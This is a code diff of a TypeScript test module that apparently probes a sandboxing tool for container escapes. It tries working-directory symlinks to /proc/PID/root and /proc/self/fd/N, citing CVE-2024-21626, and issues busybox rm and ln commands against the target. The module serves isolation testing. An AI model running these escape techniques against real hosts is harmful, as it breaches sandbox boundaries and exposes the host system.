@@ -1,6 +1,6 @@
 /** A2: the working directory that is asked for is a magic link, which leads to the host. */
 import { parseProbe } from '../../support/probe.ts';
-import { type Attack, NotApplicable, type Observation } from './attack.ts';
+import type { Attack, Observation } from './attack.ts';
 import { bring, enterFor, firstLine } from './enter.ts';
 import type { AttackTarget } from './targets.ts';
 import type { Tool, Way } from './tools.ts';
@@ -17,7 +17,7 @@ async function attack(
   let seen = '';
   for (const link of links) {
     target.do(`/bin/busybox rm -f /work; /bin/busybox ln -s ${link} /work`);
-    const { how, said } = await enterFor(5000, tool, target, way, [probe]);
+    const { how, said } = await enterFor(5000, tool, target, { ...way, directory: '/work' }, [probe]);
     const cwd = parseProbe(said)?.cwd;
     if (cwd?.startsWith('(unreachable)'))
       return { succeeded: true, seen: `the working directory is outside: ${cwd}` };
@@ -26,27 +26,27 @@ async function attack(
   return { succeeded: false, seen };
 }
 
-function needsOption(way: Way): Way {
-  if (way.words === undefined) throw new NotApplicable('it has no such option');
-  return way;
+function described(way: Way): string {
+  const ids = way.uid === undefined ? [] : [`-S ${way.uid} -G ${way.uid}`];
+  return [...(way.words ?? ['-a']), ...ids].join(' ');
 }
 
 /** A process of the host that is seen inside. */
 export function directoryOfProcess(way: Way): Attack {
   return {
-    name: `working directory: ${way.words?.join(' ')}, a link to /proc/PID/root`,
+    name: `working directory, ${described(way)}: a link to /proc/PID/root`,
     sentence:
       'In a target that sees the processes of the host, the directory of `-W` is a link to /proc/PID/root of one of them.',
-    run: (tool, target) => attack(tool, target, needsOption(way), [`/proc/${process.pid}/root`]),
+    run: (tool, target) => attack(tool, target, way, [`/proc/${process.pid}/root`]),
   };
 }
 
-/** A descriptor that the tool itself has open there. */
+/** A descriptor that the tool itself has open there (CVE-2024-21626). */
 export function directoryOfDescriptor(way: Way): Attack {
   return {
-    name: `working directory: ${way.words?.join(' ')}, a link to /proc/self/fd/N`,
+    name: `working directory, ${described(way)}: a link to /proc/self/fd/N`,
     sentence:
-      'The directory of `-W` is a link to each of /proc/self/fd/3 to 19, which are what the tool has open.',
-    run: (tool, target) => attack(tool, target, needsOption(way), DESCRIPTORS),
+      'The directory of `-W`, or `--cwd`, is a link to each of /proc/self/fd/3 to 19, which are what the tool has open (CVE-2024-21626).',
+    run: (tool, target) => attack(tool, target, way, DESCRIPTORS),
   };
 }
